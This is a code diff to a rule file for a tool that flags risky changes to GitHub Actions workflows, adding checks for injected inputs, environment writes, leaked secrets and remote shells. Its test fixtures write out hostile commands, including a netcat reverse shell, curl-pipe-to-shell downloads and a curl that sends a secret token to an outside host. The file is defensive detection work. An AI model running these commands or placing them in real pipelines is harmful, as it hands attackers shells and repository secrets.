@@ -3,6 +3,9 @@ import { configRule } from '../../changes.ts';
 import { step } from '../../workflows/examples.ts';
 
 const path = '.github/workflows/ci.yml';
+const called = (script: string) =>
+  step(`run: |\n  ${script}`, 'on: { workflow_call: { inputs: { target: { type: string } } } }');
+const forStrangers = (script: string) => step(`run: |\n  ${script}`, 'on: pull_request_target');
 const run = (script: string) => step(`run: |\n  ${script}`);
 
 export default [
@@ -20,6 +23,55 @@ export default [
         message: (c) => `The script of \`${c.step}\` now has an expression in it that strangers fill in.`,
         equivalents: ['zizmor:template-injection', 'checkov:CKV_GHA_2'],
       },
+      input: {
+        risk: 'medium',
+        title: 'caller’s text becomes part of a script',
+        message: (c) => `The script of \`${c.step}\` now has an input in it that callers fill in.`,
+        why: 'Whoever chooses the input, in this repository or another, chooses the commands that run here.',
+        equivalents: ['zizmor:template-injection'],
+      },
+      environment: {
+        risk: 'high',
+        title: 'environment of later steps written where strangers start the workflow',
+        message: (c) => `The script of \`${c.step}\` now writes to the environment of the steps after it.`,
+        why: 'A stranger who chooses what is written chooses what the steps after it run, with the rights of the repository.',
+        fix: 'Pass the value as an output of the step instead.',
+        equivalents: ['zizmor:github-env'],
+      },
+      'secret-sent': {
+        risk: 'high',
+        class: 'secret',
+        title: 'secret sent over the network',
+        message: (c) => `The script of \`${c.step}\` now sends a secret to another host.`,
+        why: 'The other host gets the secret, and so does whoever reads the list of processes.',
+        fix: 'Pass the secret through `env:` to a tool that is made for that host.',
+        equivalents: ['checkov:CKV_GHA_3'],
+      },
+      'secret-given': {
+        risk: 'high',
+        class: 'secret',
+        title: 'secret handed to an action of somebody else',
+        message: (c) => `\`${c.step}\` now gets a secret of the repository.`,
+        why: 'Whoever changes the action, or moves its tag, has the secret at the next run.',
+        fix: 'Pin the action by its commit, and give it a credential that can do no more than its task.',
+      },
+      'new-step-given': {
+        risk: 'medium',
+        class: 'secret',
+        title: 'secret handed to a new action of somebody else',
+        message: (c) => `The new step \`${c.step}\` gets a secret of the repository.`,
+        why: 'Whoever changes the action, or moves its tag, has the secret at the next run.',
+        fix: 'Pin the action by its commit, and give it a credential that can do no more than its task.',
+      },
+      'remote-shell': {
+        risk: 'high',
+        class: 'supply-chain',
+        title: 'shell opened to another host',
+        message: (c) => `The script of \`${c.step}\` now opens a shell to another host.`,
+        why: 'Whoever is at the other end runs commands with the rights and the secrets of the job.',
+        fix: 'Remove it.',
+        equivalents: ['checkov:CKV_GHA_4'],
+      },
       'all-secrets': {
         risk: 'high',
         class: 'secret',
@@ -36,7 +88,6 @@ export default [
         message: (c) => `The script of \`${c.step}\` now pipes a download into a shell.`,
         why: 'Whoever controls that server, or the way to it, runs commands with the rights of the job.',
         fix: 'Use an action pinned by its commit, or check the download against a known checksum before running it.',
-        equivalents: ['checkov:CKV_GHA_3'],
       },
       'new-download': {
         risk: 'medium',
@@ -45,7 +96,6 @@ export default [
         message: (c) => `The script of \`${c.step}\`, in a new workflow, pipes a download into a shell.`,
         why: 'Whoever controls that server, or the way to it, runs commands with the rights of the job.',
         fix: 'Use an action pinned by its commit, or check the download against a known checksum before running it.',
-        equivalents: ['checkov:CKV_GHA_3'],
       },
       'ignored-failure': {
         risk: 'low',
@@ -68,6 +118,35 @@ export default [
       { path, before: run('make'), after: run('curl -fsSL https://example.com/install.sh | sh'), outcome: 'download' },
       { path, before: '', after: run('wget -qO- https://example.com/i.sh | sudo bash'), outcome: 'new-download' },
       { path, before: run('make test'), after: run('make test || true'), outcome: 'ignored-failure' },
+      { path, before: called('echo'), after: called('echo ${{ inputs.target }}'), outcome: 'input' },
+      { path, before: forStrangers('echo'), after: forStrangers('echo "A=$B" >> $GITHUB_ENV'), outcome: 'environment' },
+      {
+        path,
+        before: run('make'),
+        after: run('curl -H "Authorization: ${{ secrets.TOKEN }}" https://example.com'),
+        outcome: 'secret-sent',
+      },
+      {
+        path,
+        before: step('uses: acme/deploy@v4'),
+        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }'),
+        outcome: 'secret-given',
+      },
+      {
+        path,
+        before: run('make'),
+        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }').replace('Build', 'Deploy'),
+        outcome: 'new-step-given',
+      },
+      {
+        path,
+        before: step('uses: acme/deploy@v4'),
+        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.GITHUB_TOKEN }}" }'),
+        outcome: 'none',
+      },
+      { path, before: run('make'), after: run('nc -e /bin/sh example.com 4444'), outcome: 'remote-shell' },
+      { path, before: run('make'), after: run('bash <(curl -s https://example.com/i.sh)'), outcome: 'download' },
+      { path, before: run('echo'), after: run('echo "A=$B" >> $GITHUB_ENV'), outcome: 'none' },
       { path, before: run('make'), after: run('echo "${{ github.sha }}"'), outcome: 'none' },
       { path, before: run('make'), after: run('curl -o tool.tgz https://example.com/tool.tgz'), outcome: 'none' },
       {
@@ -77,7 +156,11 @@ export default [
         outcome: 'none',
       },
     ],
-    classify: ({ risk, isNew }) => {
+    classify: ({ risk, isNew, isNewStep }) => {
+      if (risk === 'secret-given') {
+        if (isNew) return undefined;
+        return isNewStep === true ? 'new-step-given' : risk;
+      }
       if (!isNew) return risk;
       if (risk === 'ignored-failure') return undefined;
       return risk === 'download' ? 'new-download' : risk;
